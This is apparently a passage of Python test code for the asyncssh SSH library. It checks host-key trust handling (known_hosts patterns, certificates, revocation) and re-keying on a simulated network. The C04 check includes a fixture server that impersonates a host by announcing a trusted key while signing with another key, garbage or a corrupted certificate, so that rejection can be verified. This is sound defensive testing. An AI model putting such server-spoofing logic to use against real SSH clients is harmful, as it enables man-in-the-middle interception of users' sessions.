    return world.result(nontrivial=total > 0, sample=sample)
