"""C04 -- client only talks to a server whose host key it trusts."""

import base64
import fnmatch
import hashlib
import hmac
import ipaddress

import asyncssh

from simkit import seams
from simkit.refssh.peer import RefPeer, PeerError, Closed, load_private, \
    public_blob
from simkit.world import World, RecClient, RecServer, client_opts, \
    server_opts, key, pubkey

ID = 'C04'
NAME = 'host_trust'
QUICK_S = 45
THOROUGH_S = 900
CHUNK = 40

RULE = ('A real asyncssh client connects by host name / alias / address and '
        'port to a real asyncssh server (or to RefPeer lying about its key) '
        'with a known_hosts text generated from a structured entry list: '
        'plain, hashed, wildcard, negated, CIDR, [host]:port forms, '
        '@cert-authority and @revoked markers, several matching lines in '
        'drawn order. The server presents a listed key, another key, a '
        'revoked key, or a host certificate by a trusted / untrusted / '
        'revoked CA, of user type, with wrong / no principals, not yet valid '
        'or expired relative to the SIMULATED wall clock (which may step '
        'during the handshake), or with a corrupted CA signature; the lying '
        'server announces a trusted key but signs with another or with '
        'garbage. A reference trust model computes accept/reject from the '
        'structured entries (never from asyncssh\'s parse of the text). '
        'Oracle: connect() returns iff the model accepts; on reject it raises '
        'HostKeyNotVerifiable or KeyExchangeFailed and the server saw no '
        'NEWKEYS, SERVICE_REQUEST or USERAUTH_REQUEST from the client. '
        'Non-trivial = known_hosts has at least one entry; distinct = (plan, '
        'schedule, trace) signature.')

ASSUMPTIONS = [
    'simulated event loop admits exactly asyncio-legal executions',
    'only known_hosts constructs whose meaning is documented are generated; '
    'CIDR with a non-default port and bracketed wildcard patterns are not '
    'generated. A key revoked under the [host]:port form stays revoked when '
    'the lookup falls back to the lines without a port (OpenSSH semantics)',
    'certificate validity is compared with the half-open window '
    'valid_after <= now < valid_before on the simulated clock',
    'X.509 certificates are not exercised',
]

REAL = ['asyncssh client: connection host key validation, known_hosts, '
        'pattern, public_key certificate validation; asyncssh server (honest '
        'population)', 'PyCA']
STUB = ['event loop + clocks (monotonic and wall)', 'TCP', 'DNS', 'executor',
        'RefPeer as lying server']
PROBES = ['accept_expected', 'reject_expected', 'cert_cred', 'plain_cred',
          'hashed_entry', 'wildcard_entry', 'negated_entry', 'cidr_entry',
          'port_form', 'revoked_hit', 'clock_step', 'lying_server',
          'host_spelled_in_capitals', 'entry_spelled_in_capitals',
          'cert_time_reject', 'alias_target']

HOST, ALIAS, ADDR = 'server.example.com', 'alias.example.org', '10.1.2.3'
KEYS = ['host_ed25519', 'host_rsa', 'host_ecdsa256', 'host2_ed25519',
        'host2_rsa']
CAS = ['ca_ed25519', 'ca_rsa', 'ca2_ed25519']


def gen_pattern(rng, target_name, target_addr, port, match):
    """A pattern string and its kind; `match` says whether it should be
       written to match the target or something else"""

    name = target_name if match else 'other.example.net'
    addr = target_addr if match else '10.9.9.9'
    kind = rng.weighted([('host', 30), ('addr', 15), ('wild_host', 20),
                         ('wild_addr', 8), ('cidr', 10), ('hashed', 17)])

    if port != 22 and kind in ('cidr', 'wild_host', 'wild_addr'):
        kind = 'host'

    if kind == 'host':
        p = name
    elif kind == 'addr':
        p = addr
    elif kind == 'wild_host':
        p = rng.choice(['*.' + name.split('.', 1)[1],
                        name[0] + '?' + name[2:], '*' + name[3:]])
    elif kind == 'wild_addr':
        p = addr.rsplit('.', 1)[0] + '.*'
    elif kind == 'cidr':
        p = addr.rsplit('.', 1)[0] + '.0/24'
    else:
        p = name if rng.chance(70) else addr

    return kind, p


def gen_plan(rng):
    port = rng.choice([22, 22, 2222])
    target = rng.choice(['host', 'host', 'alias', 'addr'])
    entries = []

    for _ in range(rng.between(0, 6)):
        marker = rng.weighted([('', 55), ('@cert-authority', 25),
                               ('@revoked', 20)])
        keyname = rng.choice(CAS if marker == '@cert-authority' else
                             KEYS + (CAS if marker == '@revoked' else []))
        pats = []

        # with a non-default port only single-pattern lines are generated:
        # how address literals inside pattern lists interact with the port
        # is not documented
        for _ in range(rng.weighted([(1, 6), (2, 3), (3, 1)])
                       if port == 22 else 1):
            match = rng.chance(65)
            which = rng.choice(['name', 'name', 'alias'])
            kind, p = gen_pattern(rng, HOST if which == 'name' else ALIAS,
                                  ADDR, port, match)
            neg = rng.chance(12) and kind != 'hashed' and port == 22
            portform = port != 22 and rng.chance(60) and \
                kind in ('host', 'addr', 'hashed')
            pats.append({'kind': kind, 'p': p, 'neg': neg,
                         'portform': portform})

        # hashed patterns stand alone on their line
        if any(x['kind'] == 'hashed' for x in pats):
            pats = [x for x in pats if x['kind'] == 'hashed'][:1]

        entries.append({'marker': marker, 'key': keyname, 'pats': pats,
                        'salt': rng.below(1 << 30)})

    cred_kind = rng.weighted([('plain', 45), ('cert', 45), ('lying', 10)])
    cred = {'kind': cred_kind, 'key': rng.choice(KEYS[:3])}

    if cred_kind == 'cert':
        cred.update({
            'ca': rng.choice(CAS),
            'type': rng.weighted([('host', 85), ('user', 15)]),
            'principals': rng.choice([[HOST], [HOST, ALIAS], [],
                                      ['wrong.example.com'], [ALIAS],
                                      [ADDR]]),
            'after': rng.choice([-3600, -3600, -10, -1, 0, 1, 10, 3600]),
            'before': rng.choice([3600, 3600, 1, 0, -1, 20, 100000]),
            'corrupt': False,
        })
        if cred['before'] <= cred['after']:
            cred['before'] = cred['after'] + rng.choice([1, 5, 3600])
    elif cred_kind == 'lying':
        cred.update({'announce': rng.choice(KEYS),
                     'how': rng.choice(['other_key', 'garbage',
                                        'corrupt_cert', 'corrupt_cert'])})

        if cred['how'] == 'corrupt_cert':
            cred['announce'] = 'host_ed25519'
            cred['ca'] = rng.choice(CAS)
            cred['flip'] = rng.below(1 << 16)

    if cred_kind == 'lying' and cred['how'] == 'corrupt_cert':
        # the CA is trusted for every host: only the alteration of the
        # certificate stands between the attacker and acceptance
        entries.append({'marker': '@cert-authority', 'key': cred['ca'],
                        'pats': [{'kind': 'wild_host', 'p': '*',
                                  'neg': False, 'portform': False}],
                        'salt': 3})
    elif rng.chance(55):
        if cred_kind == 'cert':
            entries.append({'marker': '@cert-authority', 'key': cred['ca'],
                            'pats': [{'kind': 'wild_host', 'p': '*',
                                      'neg': False, 'portform': False}],
                            'salt': 1})
        else:
            k = cred['key'] if cred_kind == 'plain' else cred['announce']
            tname = {'host': HOST, 'alias': ALIAS, 'addr': ADDR}[target]
            entries.append({'marker': '', 'key': k,
                            'pats': [{'kind': 'host', 'p': tname,
                                      'neg': False,
                                      'portform': port != 22}],
                            'salt': 2})

    if port != 22 and cred_kind in ('plain', 'cert') and rng.chance(12):
        # revoked for this port only, trusted under the plain name (or the
        # other way round): the key / CA the server will present
        tname = {'host': HOST, 'alias': ALIAS, 'addr': ADDR}[target]
        k = cred['key'] if cred_kind == 'plain' else cred['ca']
        rev_port = rng.chance(60)
        entries = [e for e in entries if e['key'] != k]
        entries.append({'marker': '@revoked', 'key': k,
                        'pats': [{'kind': 'host', 'p': tname, 'neg': False,
                                  'portform': rev_port}], 'salt': 4})
        entries.append({'marker': '' if cred_kind == 'plain'
                        else '@cert-authority', 'key': k,
                        'pats': [{'kind': 'host', 'p': tname, 'neg': False,
                                  'portform': not rev_port}], 'salt': 5})

    entries = rng.shuffle(entries)
    return {
        'drbg': rng.below(1 << 30),
        'profile': {'p_sched': rng.choice([0, 30, 70]),
                    'p_chunk': rng.choice([10, 50]),
                    'latency_ms': rng.choice([0, 0, 200]), 'capacity': 0},
        'port': port, 'target': target, 'entries': entries, 'cred': cred,
        'clock_step': rng.choice([0, 0, 0, 5, -5, 4000, -4000]),
        'spelling': rng.choice([None, None, None, 'upper', 'mixed']),
        # ... and so are the names in the file
        'entry_spelling': rng.choice([None, None, None, 'upper', 'mixed']),
    }


def valid_plan(plan):
    try:
        if plan['port'] not in (22, 2222) or \
                plan['target'] not in ('host', 'alias', 'addr'):
            return False

        for e in plan['entries']:
            if e['marker'] not in ('', '@cert-authority', '@revoked') or \
                    not e['pats']:
                return False

            if e['marker'] == '@cert-authority' and e['key'] not in CAS:
                return False

            if e['key'] not in KEYS + CAS:
                return False

            for p in e['pats']:
                if p['kind'] not in ('host', 'addr', 'wild_host',
                                     'wild_addr', 'cidr', 'hashed') or \
                        not p['p']:
                    return False

                if p['kind'] == 'hashed' and (len(e['pats']) != 1 or
                                              p['neg']):
                    return False

                if p['portform'] and p['kind'] not in ('host', 'addr',
                                                       'hashed'):
                    return False

                if plan['port'] != 22 and (p['neg'] or len(e['pats']) > 1
                                           or p['kind'] == 'cidr'):
                    return False

        c = plan['cred']

        if c['kind'] == 'cert' and c['before'] <= c['after']:
            return False

        if plan.get('spelling') not in (None, 'upper', 'mixed') or \
                plan.get('entry_spelling') not in (None, 'upper', 'mixed'):
            return False

        return c['kind'] in ('plain', 'cert', 'lying')
    except (KeyError, TypeError):
        return False


# -- known_hosts text from the structured entries ------------------------------------

def respell(name, how):
    return name.upper() if how == 'upper' else \
        ''.join(c.upper() if i % 2 else c for i, c in enumerate(name))


def render_known_hosts(plan):
    lines = []

    for e in plan['entries']:
        parts = []

        for p in e['pats']:
            s = p['p']

            if plan.get('entry_spelling') and p['kind'] in ('host',
                                                            'wild_host'):
                # the same names written otherwise (hashed entries hold the
                # lower case form)
                s = respell(s, plan['entry_spelling'])

            if p['portform']:
                s = '[%s]:%d' % (s, plan['port'])

            if p['kind'] == 'hashed':
                salt = hashlib.sha1(str(e['salt']).encode()).digest()
                mac = hmac.new(salt, s.encode(), hashlib.sha1).digest()
                s = '|1|%s|%s' % (base64.b64encode(salt).decode(),
                                  base64.b64encode(mac).decode())

            parts.append(('!' if p['neg'] else '') + s)

        pub = pubkey(e['key']).export_public_key('openssh').decode().strip()
        pub = ' '.join(pub.split()[:2])
        lines.append(((e['marker'] + ' ') if e['marker'] else '') +
                     ','.join(parts) + ' ' + pub)

    return '\n'.join(lines) + '\n'


# -- reference trust model (DESIGN.md A.2) ------------------------------------------------

def pat_matches(p, host, addr, use_port, port):
    """Does one pattern match the (host, addr) being looked up?"""

    if use_port:
        if p['kind'] in ('wild_host', 'wild_addr'):
            # a wildcard is matched against the "[host]:port" form, so only
            # a pattern as broad as "*" can match it
            cands = ['[%s]:%d' % (c, port) for c in (host, addr)]
            return any(fnmatch.fnmatchcase(c, p['p']) for c in cands)

        if not p['portform']:
            return False

        cands = [host, addr]
    else:
        if p['portform']:
            return False

        cands = [host, addr]

    s = p['p']

    if p['kind'] in ('host', 'addr', 'hashed'):
        return s in cands

    if p['kind'] in ('wild_host', 'wild_addr'):
        return any(fnmatch.fnmatchcase(c, s) for c in cands if c)

    net = ipaddress.ip_network(s)
    return ipaddress.ip_address(addr) in net


def select(entries, host, addr, use_port, port):
    trusted, cas, revoked = set(), set(), set()

    for e in entries:
        pos = any(pat_matches(p, host, addr, use_port, port)
                  for p in e['pats'] if not p['neg'])
        neg = any(pat_matches(p, host, addr, use_port, port)
                  for p in e['pats'] if p['neg'])

        if pos and not neg:
            {'': trusted, '@cert-authority': cas,
             '@revoked': revoked}[e['marker']].add(e['key'])

    return trusted, cas, revoked


def model(plan, now):
    host = {'host': HOST, 'alias': ALIAS, 'addr': ADDR}[plan['target']]
    port = plan['port']
    entries = plan['entries']

    if port != 22:
        trusted, cas, revoked = select(entries, host, ADDR, True, port)

        if not trusted and not cas:
            # nothing trusted is listed for [host]:port: the lines without a
            # port apply.  What was *revoked* for [host]:port stays revoked
            # (OpenSSH: a revoked match is not "host unknown", so it never
            # gets as far as the port-less lookup)
            trusted, cas, rev2 = select(entries, host, ADDR, False, port)
            revoked = revoked | rev2
    else:
        trusted, cas, revoked = select(entries, host, ADDR, False, port)

    cred = plan['cred']
    info = {'trusted': sorted(trusted), 'cas': sorted(cas),
            'revoked': sorted(revoked)}

    if cred['kind'] == 'lying':
        return False, info

    if cred['kind'] == 'plain':
        return cred['key'] in trusted and cred['key'] not in revoked, info

    # (a revoked key is not a key the trust configuration accepts, whether
    # it is presented bare or inside a certificate)
    ok = cred['ca'] in cas and cred['ca'] not in revoked and \
        cred['key'] not in revoked and \
        cred['type'] == 'host' and not cred['corrupt'] and \
        (not cred['principals'] or host in cred['principals'])
    after, before = cred['after'], cred['before']
    info['window'] = (after, before)

    # the server holds the plain key as well as the certificate: which one
    # is used depends on what the client's trust data makes it offer
    info['plain_ok'] = cred['key'] in trusted and cred['key'] not in revoked
    info['plain_path'] = bool(trusted)
    info['cert_path'] = bool(cas)
    return ok, info


class TrustServer(RecServer):
    def begin_auth(self, username):
        self.world.event(self.name, 'begin_auth')
        return False


def run_plan(plan, sched_seed=None, sched_replay=None):
    world = World(plan, sched_seed, sched_replay)
    sim = world.sim
    net = sim.net
    net.dns[HOST] = [ADDR]
    net.dns[ALIAS] = [ADDR]
    port = plan['port']
    cred = plan['cred']
    target = {'host': HOST, 'alias': ALIAS, 'addr': ADDR}[plan['target']]

    if plan.get('spelling') and plan['target'] != 'addr':
        # host names are case-insensitive: the same host, spelled otherwise
        # (known_hosts lines are written in lower case)
        target = respell(target, plan['spelling'])
        net.dns[target] = [ADDR]
        sim.probes['host_spelled_in_capitals'] += 1

    if plan.get('entry_spelling') and any(
            p['kind'] in ('host', 'wild_host') for e in plan['entries']
            for p in e['pats']):
        sim.probes['entry_spelled_in_capitals'] += 1

    res = {'conn': None, 'exc': None, 'peer': None, 't_connect': None}
    now0 = int(seams.wall_now())

    def make_cert():
        k = key(cred['key'])
        ca = key(cred['ca'])
        fn = ca.generate_host_certificate if cred['type'] == 'host' \
            else ca.generate_user_certificate
        return fn(k, 'kid', principals=cred['principals'],
                  valid_after=now0 + cred['after'],
                  valid_before=now0 + cred['before'])

    kh = asyncssh.import_known_hosts(render_known_hosts(plan))

    async def lying_server(peer):
        if cred['how'] == 'corrupt_cert':
            # a certificate by a (possibly trusted) CA for the right host,
            # valid now, with one byte altered: K_S is the certificate, H is
            # signed with the certified key itself
            cert = key(cred['ca']).generate_host_certificate(
                key('host_ed25519'), 'kid', principals=[],
                valid_after=now0 - 3600, valid_before=now0 + 3600)
            blob = bytearray(cert.public_data)
            # leave the outer algorithm name alone (it selects the parser)
            pos = 40 + cred['flip'] % (len(blob) - 40)
            blob[pos] ^= 0x01
            peer.host_cert_blob = bytes(blob)
            peer.host_cert_alg = b'ssh-ed25519-cert-v01@openssh.com'
            await peer.handshake()

            try:
                p = await peer.recv()
                res['after_kex'] = p[0]
            except Closed:
                res['after_kex'] = None

            return

        # announce one key, prove possession of another (or of nothing)
        announced = load_private(cred['announce'])
        real_pick = peer._pick_host_key
        blob = public_blob(announced)
        from simkit.refssh import peer as P
        real_sign = P.sign

        def fake_sign(priv, alg, data):
            if cred['how'] == 'garbage':
                from simkit.sshwire import string
                return string(alg) + string(bytes(64))

            evil = load_private('evil_ed25519' if b'ed25519' in alg
                                else 'evil_rsa' if b'rsa' in alg
                                else 'evil_ecdsa256')
            return real_sign(evil, alg, data)

        P.sign = fake_sign

        try:
            await peer.handshake()
        finally:
            P.sign = real_sign

        # if the client accepted, it goes on
        try:
            p = await peer.recv()
            res['after_kex'] = p[0]
        except Closed:
            res['after_kex'] = None

    async def main():
        loop = sim.loop

        if cred['kind'] == 'lying':
            def factory():
                peer = RefPeer(sim, 'server', rand=seams._urandom,
                               host_keys=[load_private(cred['announce'])])
                res['peer'] = peer

                async def runner():
                    try:
                        await lying_server(peer)
                    except (PeerError, Closed) as exc:
                        res['peer_exc'] = exc
                        peer.close()
                    except Exception: # pylint: disable=broad-except
                        import traceback
                        peer.bug = traceback.format_exc()

                sim.track('liar', runner())
                return peer

            srv = await loop.create_server(factory, ADDR, port)
        else:
            kw = {}

            if cred['kind'] == 'cert':
                kw = dict(server_host_keys=[key(cred['key'])],
                          server_host_certs=[make_cert()])
            else:
                kw = dict(server_host_keys=[key(cred['key'])])

            srv = await asyncssh.listen(
                ADDR, port, server_factory=lambda: TrustServer(world),
                **server_opts(**kw))

        if plan['clock_step']:
            # the wall clock steps while the handshake is under way
            async def stepper():
                await sim.pause('clock-step')
                seams.set_skew(plan['clock_step'])
                sim.probes['clock_step'] += 1

            sim.track('clock', stepper())

        try:
            res['conn'] = await asyncssh.connect(
                target, port, **client_opts(known_hosts=kh,
                                            login_timeout=30))
        except Exception as exc: # pylint: disable=broad-except
            res['exc'] = exc

        res['t_connect'] = seams.wall_now()
        await world.gate('done')

        if res['conn'] is not None:
            res['conn'].close()
            await res['conn'].wait_closed()

        srv.close()

    world.start(main())
    world.run_phase()

    peer = res['peer']

    if peer is not None and peer.bug:
        world.close()
        from simkit.runner import HarnessError
        raise HarnessError('RefPeer stub crashed:\n' + peer.bug)

    ok, info = model(plan, now0)
    accepted = res['conn'] is not None
    undecided = False

    cert_time_ok = True

    if cred['kind'] == 'cert':
        after, before = now0 + cred['after'], now0 + cred['before']
        t1 = int(res['t_connect'] or now0)
        # instants the validation can have observed: before the step, or
        # between the step and the return of connect() (t1 is read from the
        # same stepped clock)
        pts = [now0, now0 + plan['clock_step'], t1,
               t1 - plan['clock_step']]
        verdicts = {after <= t < before for t in pts}

        if len(verdicts) == 2:
            undecided = ok          # only matters if all else is fine
        else:
            cert_time_ok = verdicts.pop()

            if ok and not cert_time_ok:
                sim.probes['cert_time_reject'] += 1

        cert_ok = ok and cert_time_ok

        if info['plain_path'] and info['cert_path']:
            if info['plain_ok'] != cert_ok:
                undecided = True

            ok = cert_ok
        elif info['plain_path']:
            ok = info['plain_ok']
            undecided = False
        else:
            ok = cert_ok

    if cred['kind'] == 'cert' and cred['type'] == 'user' and ok:
        # a user certificate configured as host certificate: whether the
        # server then still offers its plain key is its own business
        undecided = True

    if undecided:
        sim.probes['clock_boundary_undecided'] += 1
    elif ok and not accepted:
        world.violation(
            'trusted-host-rejected',
            'model accepts (%r) but connect() raised %r; target %s:%d cred '
            '%r\nknown_hosts:\n%s' % (info, res['exc'], target, port, cred,
                                      render_known_hosts(plan)),
            sig=cred['kind'])
    elif not ok and accepted:
        world.violation(
            'untrusted-host-accepted',
            'model rejects (%r) but connect() returned; target %s:%d cred '
            '%r\nknown_hosts:\n%s' % (info, target, port, cred,
                                      render_known_hosts(plan)),
            sig=cred['kind'] + ':' + (cred.get('how') or
                                      str(cred.get('type'))))

    if ok and not undecided:
        sim.probes['accept_expected'] += 1
    elif not undecided:
        sim.probes['reject_expected'] += 1

        if not accepted:
            exc = res['exc']

            gave_up = res.get('peer_exc') is not None and \
                isinstance(exc, (asyncssh.ConnectionLost, ConnectionError))

            if not gave_up and \
                    not isinstance(exc, (asyncssh.HostKeyNotVerifiable,
                                         asyncssh.KeyExchangeFailed)):
                world.violation(
                    'wrong-error', 'untrusted host key: expected '
                    'HostKeyNotVerifiable or KeyExchangeFailed, got %r' %
                    (exc,), sig=type(exc).__name__)

            # nothing after the KEX reply may have come from the client
            slabel = next((l for l in sim.pkts if l.startswith('S')), None)
            seen = [p[1] for p in sim.pkts.get(slabel, []) if p[0] == 'R']

            if peer is not None:
                seen = [p[0] for p in peer.received if p]

            leaked = [t for t in seen if t in (21, 5, 50)]

            if leaked:
                world.violation(
                    'credentials-after-reject', 'client rejected the host '
                    'key yet the server received message types %r from it' %
                    (leaked,), sig=str(leaked[0]))

    # probes
    sim.probes['cert_cred' if cred['kind'] == 'cert' else
               'lying_server' if cred['kind'] == 'lying'
               else 'plain_cred'] += 1

    for e in plan['entries']:
        for p in e['pats']:
            sim.probes[{'hashed': 'hashed_entry', 'wild_host':
                        'wildcard_entry', 'wild_addr': 'wildcard_entry',
                        'cidr': 'cidr_entry'}.get(p['kind'], 'plain_entry')] \
                += 1

            if p['neg']:
                sim.probes['negated_entry'] += 1

            if p['portform']:
                sim.probes['port_form'] += 1

    if info['revoked']:
        sim.probes['revoked_hit'] += 1

    if plan['target'] == 'alias':
        sim.probes['alias_target'] += 1

    world.open_gate('done')
    world.run_phase()
    world.check_loop_health(allow_hang=True, loop_errors=False)
    sample = {'target': '%s:%d' % (target, port), 'cred': cred,
              'known_hosts': render_known_hosts(plan).splitlines()[:6],
              'model_accepts': ok, 'connected': accepted,
              'error': repr(res['exc'])[:100]}
    return world.result(nontrivial=bool(plan['entries']), sample=sample)
