"""C11 -- re-keying is invisible to applications and really changes keys."""

from simkit.refssh.observer import Observer
from . import chanload, c11_closing

ID = 'C11'
NAME = 'rekey'
QUICK_S = 40
THOROUGH_S = 900
CHUNK = 20

RULE = ('C07 multi-channel workload with per-side rekey_bytes drawn from '
        '{1 packet .. 20 kB} and/or rekey_seconds on the virtual clock '
        '(latency lets time pass), equal thresholds on both sides to force '
        'simultaneous KEXINIT; a passive independent decoder on the wire '
        'derives each epoch\'s keys from the escrowed (K, H) and the original '
        'session id with its own KDF/ciphers and must decode every packet. '
        'Oracles: stream equality and EOF across rekeys, no stall; per '
        'endpoint between its KEXINIT and its NEWKEYS only types '
        '{1-4,7,21,30-49} are emitted; session id constant and equal on both '
        'sides; (K, H) differ between epochs. A second population (15% of '
        'the runs): one side writes, sees its send buffer empty and closes '
        'the connection on an unbounded link, with rekey_bytes per side from '
        '1 to never: the other application must have received all of it, '
        'with or without an exchange in progress. Non-trivial = at least one '
        're-exchange completed (second population: the writer got to close '
        'the connection); distinct = (plan, schedule, trace) signature.')

ASSUMPTIONS = [
    'simulated event loop admits exactly asyncio-legal executions',
    'K and H are escrowed by a tap on send_newkeys (the passive decoder '
    'cannot know them otherwise); everything derived from them is '
    'recomputed independently',
    'algorithm lists cannot be changed between exchanges through the public '
    'API, so "algorithm changes between exchanges" is not exercised',
]

REAL = ['asyncssh connection/kex/channel code of both endpoints', 'PyCA']
STUB = ['event loop + clock', 'TCP', 'executor', 'OS randomness',
        'passive reference decoder on the wire (independent KDF/ciphers)']
PROBES = ['rekeys_completed', 'simultaneous_kexinit', 'time_rekey',
          'data_deferred_during_kex', 'rekey_per_packet', 'many_epochs',
          'pop_closing', 'closed_during_kex', 'closed_outside_kex',
          'link_cut_after_close', 'link_silent_after_close',
          'receiver_paused_at_close']

ALLOWED_DURING_KEX = {1, 2, 3, 4, 7, 21} | set(range(30, 50))

CIPHER_SETS = [
    {},
    {'encryption_algs': ['aes128-ctr'], 'mac_algs': ['hmac-sha2-256']},
    {'encryption_algs': ['aes256-gcm@openssh.com']},
    {'encryption_algs': ['aes128-cbc'],
     'mac_algs': ['hmac-sha2-512-etm@openssh.com']},
    {'encryption_algs': ['chacha20-poly1305@openssh.com'],
     'compression_algs': ['zlib@openssh.com']},
    {'encryption_algs': ['aes192-ctr'], 'mac_algs': ['hmac-sha1'],
     'compression_algs': ['zlib']},
    {'kex_algs': ['diffie-hellman-group14-sha256'],
     'encryption_algs': ['aes128-gcm@openssh.com']},
    {'kex_algs': ['ecdh-sha2-nistp256'],
     'encryption_algs': ['3des-cbc'], 'mac_algs': ['hmac-sha2-256']},
]

def valid_plan(plan):
    if plan.get('pop') == 'closing':
        return c11_closing.valid_plan(plan)

    st = plan.get('stall')

    if st is not None and (not 1 <= st['reads'] <= 5000 or
                           not 0 < st['secs'] <= 1000):
        return False

    rk = plan.get('rekey') or {}

    if rk.get('c_bytes', 1) < 1 or rk.get('s_bytes', 1) < 1 or \
            rk.get('c_secs', 0) < 0 or rk.get('s_secs', 0) < 0:
        return False

    return chanload.valid_plan(plan)


def gen_plan(rng):
    if rng.chance(15):
        # a second population: write, drain, close the connection
        # (checks/c11_closing.py)
        return c11_closing.gen_plan(rng)

    plan = chanload.gen_plan(rng, max_channels=3)
    mode = rng.below(4)
    thr = rng.choice([1, 64, 300, 1500, 6000, 20000])
    secs = rng.choice([0, 0, 1, 5, 60])
    rk = {'c_bytes': 1 << 30, 's_bytes': 1 << 30, 'c_secs': 0, 's_secs': 0}

    if mode == 0:
        rk['c_bytes'] = thr
    elif mode == 1:
        rk['s_bytes'] = thr
    elif mode == 2:
        rk['c_bytes'] = rk['s_bytes'] = thr
    else:
        rk['c_bytes'] = thr
        rk['s_bytes'] = rng.choice([1, 64, 300, 1500, 6000, 20000])

    if secs:
        rk['c_secs'] = secs
        rk['s_secs'] = rng.choice([0, secs, secs, 2 * secs])
        plan['profile']['latency_ms'] = rng.choice([20, 300, 1500])

    plan['rekey'] = rk

    if secs and rng.chance(60):
        # the process stalls for longer than the re-exchange interval right
        # before a drawn reading of the clock: the deadline may then pass
        # between two readings that belong to one send
        plan['stall'] = {'reads': rng.between(1, 600),
                         'secs': 2 * max(rk['c_secs'], rk['s_secs'])}
    plan['profile']['max_iterations'] = 8000
    plan['algs'] = rng.choice(CIPHER_SETS)

    if secs and 'diffie-hellman' in (plan['algs'].get('kex_algs') or [''])[0]:
        # (time-based re-exchange with the slow finite-field exchange: a
        # run with many epochs costs a minute of CPU; the byte thresholds
        # cover that exchange)
        plan['algs'] = CIPHER_SETS[1]
    small = min(rk['c_bytes'], rk['s_bytes'])
    return chanload.clamp_plan(plan, 8 if small <= 64 else 60)


def run_plan(plan, sched_seed=None, sched_replay=None):
    if plan.get('pop') == 'closing':
        return c11_closing.run_plan(plan, sched_seed, sched_replay)

    rk = plan['rekey']
    obs = []

    def setup(world, run):
        def on_connection(conn):
            if not obs:
                obs.append(Observer(conn, world.sim))

        world.sim.net.on_connection = on_connection

    def between(world, run):
        if world.sim.loop.capped:
            return False

        pending = [t.sim_name for t in run.writers if not t.done()]

        if pending:
            world.violation('stall', 'writers never finished: %r' %
                            pending[:6])

        run.check_streams(require_complete=True)
        return False

    def finish(world, run):
        run.check_lost()
        world.check_loop_health(internal_errors=True)

    # reach probe only (not an oracle): a connection-layer packet handed to
    # send_packet() while that endpoint's exchange is in progress is one
    # asyncssh has to hold back until its NEWKEYS
    import asyncssh.connection as _ac
    orig_send = _ac.SSHConnection.send_packet
    held = [0]

    armed = [False]

    def send_packet(self, pkttype, *args, **kwargs):
        if pkttype >= 80 and not self._kex_complete and self._session_id:
            held[0] += 1

        if plan.get('stall') and not armed[0] and self._auth_complete:
            # (from the first packet of an authenticated connection on: a
            # stall during login would just be a login timeout)
            armed[0] = True
            from simkit import seams
            seams.set_stall(plan['stall']['reads'], plan['stall']['secs'])

        return orig_send(self, pkttype, *args, **kwargs)

    _ac.SSHConnection.send_packet = send_packet

    try:
        world, run = chanload.run_channels(
            plan, sched_seed, sched_replay, setup=setup, between=between,
            finish=finish,
            extra_server_opts=dict(rekey_bytes=rk['s_bytes'],
                                   rekey_seconds=rk['s_secs'] or 1 << 30),
            extra_client_opts=dict(rekey_bytes=rk['c_bytes'],
                                   rekey_seconds=rk['c_secs'] or 1 << 30))
    finally:
        _ac.SSHConnection.send_packet = orig_send

    if held[0]:
        world.sim.probes['data_deferred_during_kex'] += 1

    sim = world.sim

    # -- message-type window per endpoint ----------------------------------------------
    first_s20 = {}

    for label, pkts in sorted(sim.pkts.items()):
        in_kex = False
        nkex = 0
        deferred_seen = False

        for idx, (d, t, _seq, payload, _note) in enumerate(pkts):
            if d != 'S':
                continue

            if t == 20:
                if in_kex:
                    world.violation('second-kexinit', '%s sent a second '
                                    'KEXINIT before its NEWKEYS (packet #%d)'
                                    % (label, idx), sig=label[0])

                in_kex = True
                nkex += 1
            elif t == 21:
                in_kex = False
            elif in_kex and t not in ALLOWED_DURING_KEX:
                world.violation(
                    'message-during-kex',
                    '%s emitted message type %d between its KEXINIT and its '
                    'NEWKEYS (packet #%d, exchange %d)' %
                    (label, t, idx, nkex), sig='%s:%d' % (label[0], t))

        # simultaneous initiation: own KEXINIT sent before the peer's is seen
        order = [(d, idx) for idx, (d, t, *_rest) in enumerate(pkts)
                 if t == 20]
        first_s20[label] = order

    if len(first_s20) == 2:
        seqs = list(first_s20.values())
        # after the initial exchange, count exchanges where both endpoints
        # sent before receiving
        def initiated(order):
            out = []

            for i in range(0, len(order) - 1, 2):
                out.append(order[i][0] == 'S')

            return out

        a, b = initiated(seqs[0]), initiated(seqs[1])

        for x, y in list(zip(a, b))[1:]:
            if x and y:
                sim.probes['simultaneous_kexinit'] += 1

    # -- session id and key freshness ----------------------------------------------------
    epochs = 0

    for label, esc in sorted(sim.escrow.items()):
        epochs = max(epochs, len(esc))
        sids = {e[2] for e in esc}

        if len(sids) > 1:
            world.violation('session-id-changed', '%s: session id changed '
                            'across exchanges' % label)

        if esc and esc[0][2] != esc[0][1]:
            world.violation('session-id-changed', '%s: session id is not H '
                            'of the first exchange' % label)

        seen = set()

        for k, h, _sid in esc:
            if (k, h) in seen:
                world.violation('keys-not-fresh', '%s: exchange reused an '
                                'earlier (K, H)' % label)

            seen.add((k, h))

    conns = sorted(sim.conns.items())

    if len(conns) == 2:
        (la, ca), (lb, cb) = conns

        if ca._session_id != cb._session_id:
            world.violation('session-id-mismatch', 'endpoints disagree on '
                            'the session id')

        ea, eb = sim.escrow.get(la, []), sim.escrow.get(lb, [])

        for i, (x, y) in enumerate(zip(ea, eb)):
            if x[:2] != y[:2]:
                world.violation('kex-mismatch', 'exchange %d: endpoints '
                                'derived different (K, H)' % i)

    # -- independent decode of everything on the wire ------------------------------------
    if obs:
        o = obs[0]

        for dirname, index, text in o.errors[:3]:
            world.violation(
                'wire-undecodable',
                '%s write #%d cannot be decoded with keys derived from the '
                'current exchange (K, H, original session id): %s' %
                (dirname, index, text), sig=text.split('(')[0].strip())

        for dirname, ds in o.d.items():
            if ds.state is None and not ds.undecodable:
                sim.probes['observer_unsupported_alg'] += 1

        world.states.update(
            (dirname, ds.epoch, ds.cmp_active) for dirname, ds in o.d.items())

    if epochs > 1:
        sim.probes['rekeys_completed'] += epochs - 1

    if epochs > 4:
        sim.probes['many_epochs'] += 1

    if rk['c_secs'] or rk['s_secs']:
        sim.probes['time_rekey'] += 1 if epochs > 1 else 0

    if min(rk['c_bytes'], rk['s_bytes']) == 1:
        sim.probes['rekey_per_packet'] += 1

    if run.connect_error is not None:
        world.violation('connect-failed', 'connect() failed without any '
                        'fault: %r' % (run.connect_error,))

    for err in run.open_errors:
